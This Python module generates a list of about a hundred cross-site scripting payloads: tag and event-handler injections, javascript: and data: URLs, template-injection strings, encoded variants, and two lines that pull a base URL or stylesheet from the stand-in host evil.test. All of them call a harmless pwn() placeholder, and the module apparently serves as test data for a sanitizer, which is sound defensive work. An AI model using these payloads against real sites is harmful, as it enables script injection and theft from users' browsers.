"""A hundred ways to smuggle a script into a page. Each would call `pwn()`; as text none of them does anything."""

_CALL = "pwn()"

_TAGS = (
    "<script>{c}</script>",
    "<img src=x onerror={c}>",
    "<svg onload={c}>",
    "<body onload={c}>",
    "<iframe src=javascript:{c}>",
    "<iframe srcdoc='<script>{c}</script>'>",
    "<input autofocus onfocus={c}>",
    "<details open ontoggle={c}>",
    "<video><source onerror={c}>",
    "<audio src=x onerror={c}>",
    "<object data=javascript:{c}>",
    "<embed src=javascript:{c}>",
    "<a href=javascript:{c}>x</a>",
    "<form action=javascript:{c}><input type=submit>",
    "<button formaction=javascript:{c}>x",
    "<math><mi xlink:href=javascript:{c}>x",
    "<marquee onstart={c}>",
    "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>",
    "<link rel=stylesheet href=javascript:{c}>",
    "<meta http-equiv=refresh content=0;url=javascript:{c}>",
    "<base href=//evil.test/>",
    "<style>@import '//evil.test/x.css'</style>",
    "<div style=background:url(javascript:{c})>",
    "<template><script>{c}</script></template>",
    "<svg><script href=data:,{c} />",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<!--><img src=x onerror={c}>-->",
    "<![CDATA[<img src=x onerror={c}>]]>",
)
_PLAIN = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java\tscript:{c}",
    "data:text/html,<script>{c}</script>",
    "vbscript:{c}",
    "{{{{constructor.constructor('{c}')()}}}}",
    "${{{c}}}",
    "{{local.you}} {{n}} {{what}}",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;img src=x onerror={c}&#62;",
)
_WRAPS = ("{p}", "\"'>{p}", "</title></textarea></script>{p}")


def _payloads() -> tuple[str, ...]:
    tags = [tag.format(c=_CALL) for tag in _TAGS]
    found = [wrap.replace("{p}", tag) for wrap in _WRAPS for tag in tags] + [plain.format(c=_CALL) for plain in _PLAIN]
    return tuple(dict.fromkeys(found))


PAYLOADS = _payloads()
